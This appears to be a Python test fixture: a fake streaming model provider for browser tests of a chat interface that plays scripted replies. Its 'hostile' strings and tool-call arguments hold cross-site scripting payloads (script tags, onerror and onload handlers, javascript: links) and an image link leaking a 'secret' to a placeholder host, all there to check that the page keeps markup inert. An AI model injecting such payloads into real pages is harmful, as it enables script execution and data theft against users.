"""A fake upstream for the browser tests, registered as provider kind ``ui-fake``.

It runs inside a real ``ponder serve`` subprocess (imported by the launcher in
``tests/test_ui_browser.py``) and plays one of a few scripts chosen by the prompt:

- ``hostile``: thoughts and answer full of markup that must stay inert in the page
  (``<script>``, ``<img onerror>``, ``javascript:`` links, raw HTML, an iframe);
- ``drawl``: one short thought, then a long answer at a steady pace (to Stop mid-answer);
- ``brief``: one short thought (under 0.1 s of thinking), then the answer;
- ``slow``: a long stream of thoughts at a steady pace, so Stop can land mid-thought;
- ``stall``: with thinking on, a few thoughts and then a minute of silence (stall detection
  and "Answer fast instead"); with thinking off, like anything else;
- ``agent``: an interleaved turn — thoughts, a tool call whose arguments are hostile markup,
  more thoughts, then the answer;
- anything else: the embedded task families' reference scratchpad (``ponder.tasks.solve``)
  as thoughts when thinking is on, then the answer; with thinking off, a deliberately wrong
  answer for multiplications (so a race has a visible verdict).

Every delta is a separate event with a small delay, so the page sees a real stream.
"""

from __future__ import annotations

import asyncio
import re
from collections.abc import AsyncIterator

from ponder.events import (
    Answer,
    Event,
    Finished,
    Thinking,
    ToolCallDelta,
    ToolCallEnd,
    ToolCallStart,
)
from ponder.providers.base import Provider
from ponder.registry import register
from ponder.request import ChatRequest
from ponder.tasks import solve

HOSTILE_THOUGHTS = (
    "The user wants markup. <script>window.__pwned = 'thought-script'; alert('x')</script>\n"
    "Try <img src=x onerror=\"window.__pwned='thought-img'; alert(1)\"> here.\n"
    "And a link [click](javascript:alert(1)) then <b id=injected-thought>bold</b>.\n"
)
HOSTILE_ANSWER = (
    "Here you go: <script>window.__pwned = 'answer-script'; alert(2)</script>\n\n"
    "<img src=x onerror=\"window.__pwned='answer-img'; alert(3)\">\n\n"
    "[a link](javascript:alert(4)) and [another](JaVaScRiPt:alert(5)) and "
    "<a href=\"javascript:alert(6)\" id=injected-link>raw link</a>\n\n"
    "<iframe src=\"javascript:alert(7)\"></iframe><svg onload=\"alert(8)\"></svg>"
    "<div style=\"position:fixed;inset:0\" id=injected-div onclick=\"alert(9)\">overlay</div>\n\n"
    "![pixel](https://example.invalid/leak?secret=1)\n\n"
    "```python\nprint('<script>alert(10)</script>')\n```\n"
)

TOOL_ARGUMENTS = (
    '{"query": "SELECT 1", "note": "<img src=x onerror=\\"window.__pwned=\'args\'\\">'
    '<script>window.__pwned=\'args-script\'</script>"}'
)

_PIECES = re.compile(r"\d|[A-Za-z]+|\s+|[^A-Za-z\d\s]")


def pieces(text: str) -> list[str]:
    """Token-sized pieces (one digit, one word, one mark), roughly what a model streams."""
    return _PIECES.findall(text)


@register("ui-fake")
class UiFakeProvider(Provider):
    async def generate(self, request: ChatRequest) -> AsyncIterator[Event]:
        prompt = request.last_user_text
        thinking = self.thinking_for(request).enabled
        delay = float(self.config.options.get("delay_ms", 12)) / 1000
        if "agent" in prompt:
            for piece in pieces("I should look this up in the database first. "):
                await asyncio.sleep(delay)
                yield Thinking(piece)
            yield ToolCallStart(0, "call_ui_1", "run_sql")
            for i in range(0, len(TOOL_ARGUMENTS), 9):
                await asyncio.sleep(delay)
                yield ToolCallDelta(0, TOOL_ARGUMENTS[i : i + 9])
            yield ToolCallEnd(0, "call_ui_1", "run_sql", TOOL_ARGUMENTS)
            for piece in pieces("The query returned one row, so the answer is 1. "):
                await asyncio.sleep(delay)
                yield Thinking(piece)
            for piece in pieces("The answer is 1."):
                await asyncio.sleep(delay)
                yield Answer(piece)
            yield Finished("stop")
            return
        if "stall" in prompt and thinking:
            for piece in pieces("Let me think about this one. "):
                await asyncio.sleep(delay)
                yield Thinking(piece)
            await asyncio.sleep(60)  # stuck (cancelled when the client gives up)
            yield Answer("too late")
            yield Finished("stop")
            return
        if "hostile" in prompt:
            thoughts, answer = HOSTILE_THOUGHTS, HOSTILE_ANSWER
        elif "drawl" in prompt:
            thoughts, answer = "Start.", "word " * 400
            delay = max(delay, 0.02)
        elif "brief" in prompt:
            thoughts, answer = "Easy.", "Yes."
        elif "slow" in prompt:
            thoughts = "Let me check each step slowly. " * 400
            answer = "done"
            delay = max(delay, 0.02)
        else:
            solution = solve(prompt)
            if solution is None:
                thoughts = "The question is outside my tasks. Let me say so."
                answer = "I only know arithmetic and the ledger task."
            else:
                thoughts, answer = solution.thoughts, solution.answer
                if not thinking and solution.family == "arith" and "*" in thoughts.split("\n")[0]:
                    answer = str(int(answer) + 10)  # the hare guesses
        if thinking:
            await asyncio.sleep(delay * 4)
            for piece in pieces(thoughts):
                await asyncio.sleep(delay)
                yield Thinking(piece)
        await asyncio.sleep(delay * 2)
        for piece in re.findall(r"\S+\s*|\s+", answer):
            await asyncio.sleep(delay)
            yield Answer(piece)
        yield Finished("stop")
